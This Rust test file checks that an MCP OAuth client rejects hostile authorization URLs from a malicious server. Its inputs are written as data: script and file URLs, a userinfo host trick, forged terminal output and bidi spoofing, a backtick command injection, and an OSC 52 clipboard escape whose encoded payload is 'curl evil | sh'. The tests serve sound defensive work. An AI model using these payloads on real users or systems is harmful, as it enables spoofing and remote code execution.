//! Authorization URLs a malicious server names: never handed to the user's
//! interaction (which prints or opens them) unless they are http(s) URLs of
//! URL characters only.

use mcp_auth::{Interaction, LoopbackRedirect};
use mcp_transport_http::BoxFuture;

use super::*;

/// An interaction that records every URL it is asked to show.
#[derive(Clone, Default)]
struct Recorder {
    shown: Arc<Mutex<Vec<String>>>,
}

impl Interaction for Recorder {
    fn redirect_uri(&self) -> String {
        "http://127.0.0.1:9/callback".into()
    }

    fn authorize(&self, url: String) -> BoxFuture<'_, Result<String, AuthError>> {
        self.shown.lock().unwrap().push(url);
        Box::pin(async {
            Err(AuthError::new(
                AuthErrorKind::Interaction,
                "the recorder does not authorize",
            ))
        })
    }
}

#[tokio::test]
async fn dangerous_authorization_endpoints_never_reach_the_user() {
    for endpoint in [
        "javascript:alert(document.domain)//",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        "vbscript:msgbox(1)",
        "http://as.example/authorize",
        "https://trusted.example@evil.example/authorize",
        // OSC 52 (writes the clipboard), a forged line, C1 CSI, bidi override.
        "https://as.example/authorize\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}",
        "https://as.example/authorize\u{1b}[2K\rmcp: authorized",
        "https://as.example/authorize\u{9b}2J",
        "https://as.example/authorize/\u{202e}lmth.exe",
        "https://as.example/authorize?x=`id`",
    ] {
        let mock = Mock::start(Cfg {
            as_extra: json!({ "authorization_endpoint": endpoint }),
            ..Cfg::default()
        })
        .await;
        let ui = Recorder::default();
        let p = OAuthProvider::builder(mock.url())
            .interaction(ui.clone())
            .build()
            .unwrap();
        let e = retry(&p, mock.challenge("")).await.unwrap_err();
        assert_eq!(e.kind(), AuthErrorKind::InvalidUrl, "{endpoint:?}: {e}");
        let text = e.to_string();
        assert!(
            !text.chars().any(char::is_control),
            "the error carries the control characters: {text:?}"
        );
        assert!(
            ui.shown.lock().unwrap().is_empty(),
            "{endpoint:?} was handed to the interaction"
        );
        assert!(mock.find("/register").is_empty(), "{endpoint:?}");
        assert!(mock.find("/token").is_empty(), "{endpoint:?}");
    }
    // A good one is shown, once.
    let mock = Mock::start(Cfg::default()).await;
    let ui = Recorder::default();
    let p = OAuthProvider::builder(mock.url())
        .interaction(ui.clone())
        .build()
        .unwrap();
    retry(&p, mock.challenge("")).await.unwrap_err();
    let shown = ui.shown.lock().unwrap().clone();
    assert_eq!(shown.len(), 1);
    assert!(
        shown[0].starts_with(&format!("{}/authorize?", mock.base)),
        "{shown:?}"
    );
}

#[tokio::test]
async fn the_loopback_listener_checks_before_it_shows() {
    let shown = Arc::new(Mutex::new(Vec::<String>::new()));
    let s = shown.clone();
    let lr = LoopbackRedirect::bind(0, move |u| s.lock().unwrap().push(u.to_owned()))
        .await
        .unwrap()
        .timeout(std::time::Duration::from_millis(100));
    for url in [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "https://as.example/\u{1b}]0;owned\u{7}",
    ] {
        let e = lr.authorize(url.into()).await.unwrap_err();
        assert_eq!(e.kind(), AuthErrorKind::InvalidUrl, "{url:?}");
    }
    assert!(shown.lock().unwrap().is_empty());
}
